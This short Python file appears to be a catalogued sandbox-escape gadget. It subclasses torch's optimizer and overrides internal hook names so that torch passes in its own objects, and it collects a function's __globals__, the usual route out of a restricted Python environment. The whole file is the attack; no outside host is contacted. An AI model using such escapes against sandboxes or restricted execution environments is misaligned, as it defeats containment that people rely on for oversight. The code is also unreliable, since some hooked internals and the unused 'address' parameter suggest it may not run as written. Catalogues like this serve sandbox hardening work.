"""Class: module gadget. Source: own find. Escape: a class that derives from torch's optimizer takes
the names of hooks that the optimizer calls with objects of its own."""

import torch

found = []


def walk(value, *names):
    for name in names:
        value = getattr(value, name)
    return value


def attack(model, tokenizer, address):
    def take(self, *args, **options):
        found.append((self, args))
        return args[0] if args else None

    class Steps(torch.optim.Optimizer):
        def __init__(self, params):
            super().__init__(params, {"lr": 0.1})

        def profile_hook_step(self, function):
            found.append(walk(function, "__globals__"))
            return function

        def step(self, closure=None):
            return None

    Steps([torch.nn.Parameter(torch.zeros(1))])

    class Patched(torch.optim.Optimizer):
        _patch_step_function = take
        _process_value_according_to_param_policy = take
        _optimizer_step_pre_hooks = {}

        def __init__(self, params):
            super().__init__(params, {"lr": 0.1})

    optimizer = Patched([torch.nn.Parameter(torch.zeros(1))])
    optimizer.load_state_dict(optimizer.state_dict())
    return found
